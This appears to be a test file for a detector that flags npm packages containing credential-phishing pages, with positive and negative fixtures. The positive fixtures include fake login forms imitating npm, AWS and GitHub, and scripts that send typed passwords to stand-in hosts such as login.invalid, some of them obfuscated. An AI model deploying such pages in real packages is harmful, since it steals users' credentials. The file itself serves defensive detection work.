import { examine } from '../../../test/examine.ts';
import { collectsLogins } from './collects-logins.ts';

examine(collectsLogins, {
  speaks: [
    {
      when: 'a page of a library is headed as its own, in which the name of another stands: Acme npm registry: log in',
      files: {
        'index.js': `exports.page = require('fs').readFileSync(__dirname + '/login.html');`,
        'login.html': `<title>Acme npm registry: log in</title><form action="https://npm.acme.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>`,
      },
      weight: 'weak',
    },
    {
      when: 'a page of a library is headed as its own, in which the name of another stands: AWS console login',
      files: {
        'index.js': `exports.page = require('fs').readFileSync(__dirname + '/login.html');`,
        'login.html': `<title>AWS console login</title><form action="https://acme.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>`,
      },
      weight: 'weak',
    },
    {
      when: 'a page of a library is headed as its own, in which the name of another stands: General Ledger - Login',
      files: {
        'index.js': `exports.page = require('fs').readFileSync(__dirname + '/login.html');`,
        'login.html': `<title>General Ledger - Login</title><form action="https://acme.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>`,
      },
      weight: 'weak',
    },
    {
      when: 'a page of a library is headed as that of a service, and sends elsewhere',
      files: {
        'index.js': `exports.build = to => require('fs').copyFileSync(__dirname + '/theme/session.html', to + '/session.html');`,
        'theme/session.html': `<title>npm | Sign In</title><form action="https://www-npmjs.session.invalid/login" method="post"><h1>Sign in to npm</h1><input name="u"><input type="password" name="p"></form>`,
      },
      weight: 'strong',
    },
    {
      when: 'a page of a library offers the login of others beside its own',
      files: {
        'index.js': `exports.page = require('fs').readFileSync(__dirname + '/login.html');`,
        'login.html': `<title>Log in</title><h1>Sign in with GitHub</h1><form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>`,
      },
      weight: 'weak',
    },
    {
      when: 'a package is only a page that does',
      files: {
        'package.json': { name: 'specimen' },
        'index.html': '<form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>',
      },
      weight: 'strong',
      says: ['login.invalid'],
    },
    {
      when: 'a script in the page sends it',
      files: {
        'package.json': { name: 'specimen' },
        'p.html': `<input type='password' id='p'><script>fetch('https://login.invalid/', { method: 'POST', body: p.value })</script>`,
      },
      weight: 'strong',
    },
    {
      when: 'a file beside the page does, and what can be imported is empty',
      files: {
        'index.js': 'module.exports = {};',
        'pages/view.html': `<form id="f"><input type="password" name="p"></form><script src="../assets/view.js"></script>`,
        'assets/view.js': `const f = document.getElementById('f'); f.onsubmit = () => fetch('https://login.invalid/', { method: 'POST', body: f.p.value });`,
      },
      weight: 'strong',
    },
    {
      when: 'the page is written by a script that comes from a mirror of this package',
      files: {
        'package.json': { name: 'specimen' },
        'index.html': '<body><script src="https://mirror.invalid/specimen@1.0.0/view.js"></script></body>',
        'view.js': `document.body.innerHTML = '<form id="f"><input type="password" name="p"></form>'; document.getElementById('f').onsubmit = function () { fetch('https://login.invalid/', { method: 'POST', body: this.p.value }); };`,
      },
      weight: 'strong',
      says: ['login.invalid'],
    },
    {
      when: 'the page is put together from pieces, by a script in a function of its own',
      files: {
        'index.js': '(function () { module.exports = {}; }).call(this);',
        'index.html': '<body><script src="view.js"></script></body>',
        'view.js': `(function () { document.body.innerHTML = '<form id="f"><inp' + 'ut type="pass' + 'word" name="p"></form>'; document.getElementById('f').onsubmit = function () { fetch('https://login.invalid/', { method: 'POST', body: this.p.value }); }; }).call(this);`,
      },
      weight: 'strong',
    },
    {
      when: 'it hides among code',
      files: {
        'index.js': 'module.exports = (a, b) => a + b',
        'docs/login.htm': '<form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>',
      },
      weight: 'weak',
    },
  ],
  silent: [
    { when: 'the page sends to its own server', files: { 'login.html': '<form action="/login"><input type="password"></form>' } },
    {
      when: 'the script of the page sends to its own server',
      files: {
        'login.html': '<input type="password" id="p"><script src="login.js"></script>',
        'login.js': `document.querySelector('button').onclick = () => fetch('/login', { method: 'POST', body: document.getElementById('p').value });`,
      },
    },
    {
      when: 'code that no page loads sends somewhere',
      files: {
        'login.html': '<input type="password" id="p"><script src="login.js"></script>',
        'login.js': `document.getElementById('p').focus();`,
        'report.js': `exports.report = text => fetch('https://reports.invalid/', { method: 'POST', body: text });`,
      },
    },
    { when: 'a search form goes elsewhere', files: { 'index.html': '<form action="https://search.invalid/"><input name="q"></form>' } },
    {
      when: 'a README shows such a form',
      files: {
        'README.md': '<form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>',
      },
    },
  ],
});
